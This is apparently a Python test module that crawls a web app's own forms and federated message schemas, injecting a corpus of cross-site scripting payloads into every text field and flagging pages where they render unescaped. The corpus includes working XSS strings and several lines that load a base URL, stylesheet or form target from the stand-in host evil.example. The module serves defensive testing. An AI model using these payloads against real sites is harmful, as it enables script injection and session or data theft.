"""Hostile words, put into every field of every form that there is and into everything that another group can send.

The forms are read from the pages themselves, as a browser reads them: a field that somebody adds is found by itself.
"""

import json
import re
import zlib
from collections.abc import Collection, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser
from importlib import resources
from typing import Any
from urllib.parse import urlencode

from tests.browser.tour import who_may
from tests.contract.route_table import TABLE, Row
from tests.harness.crowd import Crowd
from tests.harness.street import Answer, Street, Visitor

PROBE = "xss-probe"
"""An element that no page of ours has: where it stands in a page, words became tags."""
CORPUS = (
    f"<{PROBE} onmouseover=hit()>",
    f'"><{PROBE} autofocus tabindex=1 onfocus=hit()>',
    f"'><img src=/none onerror=hit()><{PROBE}>",
    f"</textarea></title></option></select></script><{PROBE}><script>hit()</script>",
    f"<svg/onload=hit()><{PROBE}>",
    "javascript:hit()//",
    f"<base href=//evil.example/><{PROBE}>",
    f"<link rel=stylesheet href=//evil.example/a.css><{PROBE}>",
    f"--><{PROBE}><!--",
    f"]]><{PROBE}>",
    f"&lt;{PROBE}&gt;&#60;{PROBE}&#62;",
    f"{{{{7*7}}}}{{%print(7)%}}%(x)s{{x}}${{7*7}}<{PROBE}>",
    "' onfocus=hit() autofocus x='",
    f"<form action=//evil.example><button>{PROBE}</button>",
    f"<iframe srcdoc='<{PROBE}>'>",
    f"<math><mtext><{PROBE}>",
    f"<x-{PROBE} style='background:url(//evil.example/x)'><{PROBE}>",
)
"""Ways out of text, of a quoted attribute, of a comment, of an element whose content is text; and no way at all."""
SENSOR = f"""() => document.documentElement.dataset.hit || [...document.querySelectorAll(
  '{PROBE}, x-{PROBE}, base[href], iframe, math, [onfocus], [onerror], [onload], [onmouseover],'
  + '[href^="javascript:" i], [action^="//evil"], [href^="//evil"], [src="/none"], [style*=evil]'
)].map(each => each.outerHTML.slice(0, 120)).join(' ')"""

_SAMPLE = {
    "tel": "07700 900123",
    "email": "somebody@example.org",
    "number": "1",
    "date": "{tomorrow}",
    "time": "10:00",
    "datetime-local": "{tomorrow}T10:00",
}
_FREE = {"text", "search", "url"}
_FIGURES = frozenset({"days_off", "phone", "their_phone", "email", "day", "until"})
"""Of walks: what is no words."""
_LONGEST = (150, 110, 60, 25)
_BESIDE: Mapping[str, Mapping[str, str]] = {
    "/polls": {
        "question:es": "¿Jueves?",
        "choices:es": "sí\nno",
        "question:ar": "الخميس؟",
        "choices:ar": "نعم\nلا",
    }
}
"""What must come with it: a question in another language has its choices, as many."""
_KNOWN = {name: value for row in TABLE for name, value in row.form.items() if "{" not in value}
"""What fields of forms hold when they are filled in well, wherever the form is not in the table itself."""


@dataclass(slots=True)
class Field:
    """One field. ``kind``: a type of ``input``, or ``textarea`` or ``select``."""

    name: str
    kind: str
    value: str = ""
    checked: bool = False
    required: bool = False
    longest: int = 0
    options: list[str] = field(default_factory=list)

    @property
    def is_free(self) -> bool:
        return self.kind in _FREE or self.kind == "textarea"


@dataclass(slots=True)
class Form:
    """One form as it stands in a page."""

    action: str
    fields: list[Field] = field(default_factory=list)
    button: tuple[str, str] | None = None

    @property
    def shape(self) -> str:
        """The same for the same form about another object."""
        path = re.sub(r"/(did:key:\w+|[\w-]{22}|[\w-]{40,})(?=/|$)", "/*", self.action)
        return f"{path} {','.join(sorted({each.name for each in self.free()}))}"

    @property
    def goes_on(self) -> bool:
        """Whether it is one page of several (``parts/steps.html``)."""
        return any(each.name == "step" for each in self.fields)

    def free(self) -> list[Field]:
        """Where words can be typed."""
        return [each for each in self.fields if each.is_free]


class Forms(HTMLParser):
    """The forms of a page that are sent by POST, without files."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[Form] = []
        self._form: Form | None = None
        self._text: Field | None = None
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        if tag == "form":
            mine = said.get("method", "").lower() == "post" and "enctype" not in said and "inert" not in said
            self._form = Form(said.get("action", "")) if mine else None
            if self._form:
                self.found.append(self._form)
        if self._form is None:
            return
        name, kind = said.get("name", ""), said.get("type", "text").lower()
        longest = int(said.get("maxlength") or 0)
        if tag == "button" and self._form.button is None and kind != "button":
            self._form.button = (name, said.get("value", ""))
        elif tag in ("input", "textarea", "select") and name and "disabled" not in said:
            made = Field(name, kind if tag == "input" else tag, said.get("value", ""), longest=longest)
            made.checked, made.required = "checked" in said, "required" in said
            self._form.fields.append(made)
            self._text = made if tag != "input" else None
        elif tag == "option" and self._text is not None:
            self._text.options.append(said.get("value", ""))
            if "selected" in said:
                self._text.value = said.get("value", "")

    def handle_data(self, data: str) -> None:
        if self._text is not None and self._text.kind == "textarea":
            self._text.value += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        if tag in ("textarea", "select"):
            self._text = None


def hostile(name: str, longest: int = 200) -> str:
    """Words for a field: several of the corpus, as many as there is room for; which first, its name decides."""
    first = zlib.crc32(name.encode()) % len(CORPUS)
    turned = [*CORPUS[first:], *CORPUS[:first]]
    text = ""
    for each in turned:
        if len(text) + len(each) < longest:
            text += each + " "
    return text.strip() or turned[0][:longest]


class Planter:
    """Fills forms in. ``met``: every field (shape of the form, name); ``taken``: those whose words were taken."""

    def __init__(self, street: Street) -> None:
        self._street = street
        self._shapes: set[str] = set()
        self.faults: list[str] = []
        self.met: set[tuple[str, str]] = set()
        self.taken: set[tuple[str, str]] = set()
        tomorrow = street.cast.clock.now().date().toordinal() + 1
        self._tomorrow = type(street.cast.clock.now().date()).fromordinal(tomorrow).isoformat()

    async def fill(self, visitor: Visitor, path: str) -> None:
        """Every form of that page that has a free field, unless the like of it was filled in before."""
        page = await self._street.ask(visitor, "GET", path)
        for form in Forms(page.body.decode("utf-8", "replace")).found:
            form.action = form.action or path.partition("?")[0]
            if not form.free() or form.shape in self._shapes:
                continue
            self._shapes.add(form.shape)
            await self._fill(visitor, form)

    async def _fill(self, visitor: Visitor, form: Form) -> None:
        names = [each.name for each in form.free()]
        self.met |= {(form.shape, name) for name in names}
        # All at once; then with everything ticked; then one by one, the others filled in well.
        for words, ticks in ((names, False), (names, True)):
            if await self._send(visitor, form, words, ticks=ticks):
                self.taken |= {(form.shape, name) for name in names}
                return
        for name in names:
            for ticks, longest in ((False, 0), (True, 0), (True, 60)):
                if await self._send(visitor, form, [name], ticks=ticks, longest=longest):
                    self.taken.add((form.shape, name))
                    break

    async def walk(self, visitor: Visitor, path: str, given: Sequence[tuple[str, str]]) -> str:
        """A form that is one thing a page, sent to its end with hostile words wherever words were asked for on the way;
        ``given``: what else it needs. The page that thanks; empty where nothing was taken."""
        known = {name for name, _ in given if name in _FIGURES}
        names = {name for shape, name in self.met if _path(shape) == path} - known - _FIGURES
        for longest in _LONGEST:
            pairs = [(name, said) for name, said in given if name not in names]
            pairs += [(name, hostile(name, longest)) for name in sorted(names)]
            answer = await self._post(visitor, path, [*pairs, ("go", "send"), ("step", "check")], path)
            if answer.status == 200:
                self.taken |= {
                    (shape, name) for shape, name in self.met if _path(shape) == path and name in names
                }
                return answer.text
        return ""

    async def rows(self, crowd: Crowd, without: Collection[tuple[str, str]]) -> None:
        """What no page's own form would take is sent as the table of routes does it: about something made for that, in
        the state that it needs, everything filled in well but this one field. ``without``: path and name of those that
        take no words; tried again and again, codes would be used up."""
        for shape, name in sorted(self.met - self.taken):
            for row in TABLE if (shape.partition(" ")[0], name) not in without else ():
                mine = row.method == "POST" and row.kind != "gone" and _is_at(row, _path(shape))
                if mine and await self._as_in_the_table(crowd, row, name):
                    self.taken.add((shape, name))
                    break

    async def _as_in_the_table(self, crowd: Crowd, row: Row, name: str) -> bool:
        who, whose = who_may(row), "own" if row.kind in ("link", "own", "key") else "other"
        for longest in _LONGEST:
            words = await crowd.objects(row, who, whose)
            path = row.path.format(**words | {key: text.format(**words) for key, text in row.values.items()})
            form = {key: text.format(**words) for key, text in row.form.items()}
            form |= {**_BESIDE.get(row.path, {}), name: hostile(name, longest)}
            if name.startswith("choices"):
                form[name] += "\n" + hostile(name[::-1], longest)
            answer = await self._post(crowd.visitors[who], path, list(form.items()), f"{row.path} {name}")
            if answer.status in (200, 303):
                return True
        return False

    async def _post(self, visitor: Visitor, path: str, pairs: Sequence[tuple[str, str]], told: str) -> Answer:
        seal = self._street.sealed(visitor, {})
        body = urlencode([pair for pair in pairs if pair[0] not in seal] + list(seal.items())).encode()
        answer = await self._street.ask(visitor, "POST", path, body=body)
        if answer.status == 500 or f"<{PROBE}" in answer.body.decode("utf-8", "replace"):
            self.faults.append(f"POST {told}: {answer.status}, words became tags")
        return answer

    async def _send(
        self, visitor: Visitor, form: Form, hostile_in: Sequence[str], *, ticks: bool, longest: int = 0
    ) -> bool:
        pairs = [(form.button[0], form.button[1])] if form.button and form.button[0] else []
        known = {**_KNOWN, **_in_table(form)}
        chosen = {each.name for each in form.fields if each.kind == "radio" and each.checked}
        for each in form.fields:
            if each.kind == "radio" and ticks and each.name not in chosen:
                chosen.add(each.name)
                pairs.append((each.name, each.value))
            pairs += self._filled(each, hostile_in, known, ticks=ticks, longest=longest)
        answer = await self._post(visitor, form.action, pairs, f"{form.shape} with {hostile_in} hostile")
        # The next page of a walk keeps nothing yet: that is sent by ``walk``.
        return answer.status == 303 or (answer.status == 200 and not form.goes_on)

    def _filled(
        self, each: Field, hostile_in: Sequence[str], known: Mapping[str, str], *, ticks: bool, longest: int
    ) -> Iterator[tuple[str, str]]:
        if each.is_free:
            longest = longest or each.longest or (1000 if each.kind == "textarea" else 190)
            if each.name in hostile_in:
                yield each.name, hostile(each.name, longest)
            else:
                yield each.name, each.value or known.get(each.name, "")
        elif each.kind in ("checkbox", "radio"):
            if each.checked or (ticks and each.kind == "checkbox"):
                yield each.name, each.value or "on"
        elif each.kind == "select":
            chosen = each.value or next(filter(None, each.options), "") if ticks else each.value
            yield each.name, chosen
        else:
            sample = _SAMPLE.get(each.kind, "").format(tomorrow=self._tomorrow)
            yield each.name, each.value or (known.get(each.name) or sample if each.kind in _SAMPLE else "")


def _path(shape: str) -> str:
    return shape.partition(" ")[0].partition("?")[0].partition("#")[0]


def _is_at(row: Row, path: str) -> bool:
    """Whether a row of the table is about the form of that address."""
    like = re.escape(row.path)
    for name in re.findall(r"{(\w+)}", row.path):
        like = like.replace(re.escape(f"{{{name}}}"), row.values.get(name, "[^/]+"))
    return re.fullmatch(like, path) is not None


def _in_table(form: Form) -> dict[str, str]:
    """What the table of routes fills that very form in with."""
    path = form.action.partition("?")[0].partition("#")[0]
    for row in TABLE:
        if row.method == "POST" and re.fullmatch(re.sub(r"\{\w+\}", "[^/]+", row.path), path):
            return {name: value for name, value in row.form.items() if "{" not in value}
    return {}


def letter(kind: str, base: Mapping[str, Any]) -> dict[str, Any]:
    """What a letter of another group says: ``base``, and hostile words wherever the schema lets one write words."""
    definitions = json.loads(resources.files("schemas").joinpath("direct.v1.json").read_bytes())["$defs"]

    def fill(schema: Mapping[str, Any], name: str, given: Any) -> Any:
        schema = definitions[schema["$ref"].rpartition("/")[2]] if "$ref" in schema else schema
        if schema.get("type") == "object" or "properties" in schema:
            held = dict(given or {})
            for key, below in schema["properties"].items():
                if (made := fill(below, key, held.get(key))) is not None:
                    held[key] = made
            return held or None
        words = schema.get("type") == "string" and not {"pattern", "enum", "const"} & set(schema)
        return hostile(name, schema["maxLength"] - 1) if words else given

    found: dict[str, Any] = fill(definitions[kind], kind, base)
    return found
